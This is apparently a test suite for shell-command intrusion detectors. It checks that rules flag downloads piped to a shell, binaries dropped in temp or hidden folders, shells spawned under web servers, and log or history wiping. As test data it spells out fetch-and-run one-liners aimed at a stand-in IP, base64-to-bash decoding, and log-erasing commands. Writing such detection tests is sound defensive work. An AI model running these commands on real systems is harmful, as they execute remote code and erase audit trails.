import assert from 'node:assert/strict';
import { test } from 'node:test';
import { CONTEXT_ANALYZERS } from '#shared/analyzers/context/analyzers.ts';
import type { Process } from '#shared/model/event.ts';
import { launch } from '../miner/fixture.ts';
import { decideAll, file, holdToContract, shell, told } from '../optimization/fixture.ts';

type Table = readonly (readonly [string, string])[];

function holds(name: string, rule: string, table: Table): void {
  test(name, () => {
    for (const [line, expected] of table) {
      const only = CONTEXT_ANALYZERS.filter(({ id }) => id === rule);
      assert.equal(told(only, shell(line)), expected === '-' ? '-' : `${rule}${expected}`, line);
    }
  });
}

holds('sees fetched and decoded code given to a shell', 'download_to_shell', [
  ['(curl -s http://198.51.100.9/ldr.sh || wget -q -O- http://198.51.100.9/ldr.sh) | sh', '/download weak'],
  ['wget -q -O - http://198.51.100.9/d.sh | bash -sh', '/download weak'],
  ['bash <(curl -s http://198.51.100.9/x)', '/download weak'],
  ['bash -c "$(curl -fsSL http://198.51.100.9/x)"', '/download weak'],
  ['python3 -c "import urllib.request as u;exec(u.urlopen(\'http://198.51.100.9/a\').read())"', '/download weak'],
  ['echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC45L3ggfCBzaA== | base64 -d | bash', '/decode weak'],
  ['curl -s https://example.com/a.json | python3 -m json.tool', '-'],
  ['curl -s https://example.com/list | grep sh | sort', '-'],
  ['wget -q https://example.com/a.sh', '-'],
  ['echo aGVsbG8gd29ybGQgaGVsbG8= | base64 -d > /tmp/a.txt', '-'],
  ['/root/.acme.sh/acme.sh --cron --home /root/.acme.sh > /dev/null', '-'],
]);

holds('sees a download given to a shell in loops, conditions and functions as it does alone', 'download_to_shell', [
  ['while true; do curl -s http://198.51.100.9/a.sh | sh; sleep 60; done', '/download weak'],
  ['while true; do curl -s http://198.51.100.9/a.sh; sleep 60; done | sh', '/download weak'],
  ['until wget -qO- http://198.51.100.9/a.sh | bash; do sleep 9; done', '/download weak'],
  ['for i in 1 2; do curl -s http://198.51.100.9/$i.sh; done | sh', '/download weak'],
  ['if true; then curl -s http://198.51.100.9/a; else wget -qO- http://198.51.100.9/a; fi | bash', '/download weak'],
  ['f() { curl -s http://198.51.100.9/a.sh | sh; }; f', '/download weak'],
  ['while true; do curl -s https://example.com/health; sleep 60; done | grep ok; sh -c date', '-'],
  ['curl -s https://example.com/list | while read a; do sh /opt/b.sh $a; done', '-'],
  ['if curl -s https://example.com/health; then echo ok; fi | logger; ls | sh', '-'],
]);

test('names the addresses that were fetched', () => {
  const [verdict] = decideAll(CONTEXT_ANALYZERS, shell('curl -s http://198.51.100.9/ldr.sh | sh'));
  assert.deepEqual(verdict?.artifacts, ['url:http://198.51.100.9/ldr.sh']);
});

holds('sees programs put into writable and hidden folders', 'executable_downloaded', [
  ['curl -o /tmp/kx http://198.51.100.9/kx', '/download weak'],
  ['cd /dev/shm; wget http://198.51.100.9/a/redtail.x86_64', '/download weak'],
  ['wget -q http://198.51.100.9/sys -O /var/tmp/a1b2c3', '/download weak'],
  ['wget -P /tmp/.X25-unix http://198.51.100.9/dota3.tar.gz', '/download weak'],
  ['curl -s http://198.51.100.9/x > /root/.cfg/run', '/download weak'],
  ['chmod +x /tmp/.migo', '/mode weak'],
  ['chmod 777 /dev/shm/a', '/mode weak'],
  ['curl -fsSL https://example.com/key.asc -o /tmp/key.asc', '-'],
  ['curl -o /usr/local/bin/kubectl https://example.com/kubectl && chmod +x /usr/local/bin/kubectl', '-'],
  ['curl -s https://example.com/health > /dev/null', '-'],
  ['wget -q https://example.com/a.tar.gz -O /tmp/a.tar.gz', '-'],
  ['chmod 644 /tmp/a', '-'],
  ['chmod -x /tmp/a', '-'],
]);

test('ties a fetched program to its path and address', () => {
  const [verdict] = decideAll(CONTEXT_ANALYZERS, shell('cd /var/tmp && curl -O http://198.51.100.9/b/kx?s=1'));
  assert.deepEqual(verdict?.artifacts, ['path:/var/tmp/kx', 'url:http://198.51.100.9/b/kx?s=1']);
});

test('sees the file that a downloader creates', () => {
  const by = (executable: string, path: string): string =>
    told(CONTEXT_ANALYZERS, file(path, { executable }, 'create'));
  assert.equal(by('/usr/bin/curl', '/tmp/kx'), 'executable_downloaded/download weak');
  assert.equal(by('/usr/bin/wget', '/dev/shm/.a/b'), 'executable_downloaded/download weak');
  assert.equal(by('/usr/bin/wge', '/var/tmp/sysupdate'), 'executable_downloaded/download weak');
  assert.equal(by('/usr/bin/curl', '/tmp/a.json'), '-');
  assert.equal(by('/usr/bin/curl', '/opt/app/run'), '-');
  assert.equal(by('/usr/bin/vim', '/tmp/kx'), '-');
});

test('sees a shell under a server, by any of the fields that name it', () => {
  const table: readonly (readonly [Partial<Process>, string])[] = [
    [{ parentName: 'nginx' }, 'weak'],
    [{ parentExecutable: '/usr/sbin/php-fpm8.2' }, 'weak'],
    [{ parentExecutable: '/usr/lib/postgresql/16/bin/postgres' }, 'weak'],
    [{ parentName: 'redis-server' }, 'weak'],
    [{ parentName: 'sh', ancestors: ['sh', 'httpd', 'systemd'] }, 'weak'],
    [{ parentExecutable: '/usr/lib/jvm/java-17/bin/java' }, 'note'],
    [{ parentName: 'node', parentCommandLine: 'node /srv/app/server.js' }, 'note'],
    [{ parentName: 'node', parentCommandLine: 'node /usr/bin/npm run build' }, '-'],
    [{ parentName: 'sshd' }, '-'],
    [{ parentName: 'crond' }, '-'],
    [{ parentName: 'bash', ancestors: ['bash', 'sshd', 'nginx'] }, '-'],
    [{ parentName: 'nginx-exporter' }, '-'],
  ];
  for (const [more, strength] of table) {
    const expected = strength === '-' ? '-' : `shell_under_server ${strength}`;
    assert.equal(told(CONTEXT_ANALYZERS, shell('id; uname -a', more)), expected, JSON.stringify(more));
  }
  assert.equal(told(CONTEXT_ANALYZERS, launch(['convert', 'a.png'], { parentName: 'php-fpm' })), '-');
  const archive = shell('cp pg_wal/0001 /backup/0001', { parentName: 'postgres' });
  assert.equal(told(CONTEXT_ANALYZERS, archive), '-');
});

holds('sees logs and history wiped', 'log_wiping', [
  ['echo > /var/log/wtmp', ' weak'],
  ['cat /dev/null > /var/log/secure', ' weak'],
  ['rm -rf /var/log/syslog', ' weak'],
  ['ln -sf /dev/null /root/.bash_history', ' weak'],
  ['rm -f ~/.bash_history', ' weak'],
  ['truncate -s 0 /var/log/auth.log', ' weak'],
  ['echo started >> /var/log/messages', '-'],
  ['rm -f /var/log/nginx/access.log.9.gz', '-'],
  ['tail -f /var/log/secure', '-'],
  ['cp /root/.bash_history /backup/h', '-'],
]);

test('answers no event without a needle, and never throws', () => {
  const words =
    `curl wget -O -o /tmp/kx http://198.51.100.9/kx - | sh bash <( ) $( chmod +x 777 /dev/shm/a ; && echo > /var/log/wtmp
    rm ~/.bash_history ln /dev/null base64 -d python3 -c exec(urlopen) cd /var/tmp https://example.com/a.json`.split(
      /\s+/,
    );
  const scripts = [
    'curl -s http://198.51.100.9/kx | sh',
    'wget -O /tmp/kx http://198.51.100.9/kx',
    'rm -f /root/.bash_history',
    'chmod +x /dev/shm/a',
  ];
  const byNeedle = CONTEXT_ANALYZERS.filter(({ id }) => id !== 'shell_under_server');
  const answered = holdToContract(
    byNeedle,
    [...words, ...scripts, ...scripts, ...scripts],
    ['nginx', 'java', 'sshd', 'postgres'],
  );
  assert.ok(answered > 100, `${answered} answers`);
});
